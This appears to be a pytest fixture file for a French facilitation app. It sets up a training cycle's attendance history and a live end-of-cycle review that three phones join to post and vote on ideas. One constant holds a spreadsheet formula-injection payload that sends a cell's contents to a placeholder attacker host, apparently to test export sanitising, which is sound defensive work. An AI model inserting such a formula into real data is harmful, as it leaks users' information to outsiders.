"""A cycle with a known history, and a bilan run on its last session with three phones.

Hand counts for the cycle « Tronc commun » of world.space: three sessions held (two in the
past, world.session today), a fourth one next month (not held yet); Colibri came to all
three held (first visit at the first), Nour to two (first at the second), Baobab to the
last (first visit); so 3 people, 3 new people; one co-animation (Colibri, last session).
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass
from datetime import date, timedelta

import pytest
from flask import g, request_started

from facilitation.bilans import services as bilans
from facilitation.bilans.models import Bilan
from facilitation.extensions import db
from facilitation.live import services as live
from facilitation.live.models import LiveParticipant
from facilitation.participants import services as participants
from facilitation.participants.models import Participant

from .. import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Voir")'
PHONE_KEYS = ("phone-key-colibri-01", "phone-key-nour-0001", "phone-key-baobab-01")


@pytest.fixture(autouse=True)
def fresh_request_globals(app):
    """Each request starts without the user and locale a previous request cached in ``g``."""

    def forget(sender, **_):
        g.pop("_login_user", None)
        g.pop("_flask_babel", None)

    request_started.connect(forget, app)
    yield
    request_started.disconnect(forget, app)


@dataclass
class Cycle:
    world: object
    people: dict[str, Participant]
    sessions: list
    bilan: Bilan
    phones: list[LiveParticipant]

    @property
    def sections(self):
        return self.bilan.sections


def _history(world):
    today = date.today()
    w = world
    w.session.starts_on = today
    s1 = factories.session(
        w.cycle, theme="Le système de santé", starts_on=today - timedelta(days=14)
    )
    s2 = factories.session(w.cycle, theme="Nos droits", starts_on=today - timedelta(days=7))
    factories.session(w.cycle, theme="Plus tard", starts_on=today + timedelta(days=30))
    db.session.commit()
    people = {p: factories.participant(w.space, p) for p in ("Colibri", "Nour", "Baobab")}
    came = {s1: ["Colibri"], s2: ["Colibri", "Nour"], w.session: ["Colibri", "Nour", "Baobab"]}
    for session, names in came.items():
        for name in names:
            participants.record_attendance(w.mediator, session, people[name], "present")
    participants.add_co_animation(
        w.mediator,
        people["Colibri"],
        kind="animated_tool",
        space=w.space,
        occurred_on=today,
        session=w.session,
    )
    return people, [s1, s2, w.session]


@pytest.fixture
def cycle_bilan(world) -> Cycle:
    people, sessions = _history(world)
    template = bilans.builtin(world.org.id, "cycle")
    bilan = bilans.start_bilan(world.mediator, world.session.id, template.id, scope="cycle")
    board = bilans.board_of(bilan)
    phones = [live.join(board, key, pseudonym=None, language="fr") for key in PHONE_KEYS]
    return Cycle(world, people, sessions, bilan, phones)


def collect(world, bilan, section, notes: list[tuple[LiveParticipant, str]]) -> dict[str, int]:
    """Open the section's idea wall, take the notes, as the phones would."""
    actor = live.Actor(user=world.mediator)
    board = bilans.board_of(bilan)
    live.control(actor, board, "goto", {"activity_id": section.activity_id})
    live.control(actor, board, "open")
    ids = {}
    for phone, text in notes:
        ids[text] = live.contribute(
            phone, section.activity_id, secrets.token_hex(8), text
        ).contribution_id
    return ids


def vote(world, bilan, section, votes: list[tuple[LiveParticipant, dict[int, int]]]) -> None:
    actor = live.Actor(user=world.mediator)
    board = bilans.board_of(bilan)
    live.control(actor, board, "goto", {"activity_id": section.activity_id})
    live.control(actor, board, "phase", {"phase": "vote"})
    for phone, dots in votes:
        live.submit_answer(
            phone, section.activity_id, secrets.token_hex(8), {str(k): v for k, v in dots.items()}
        )
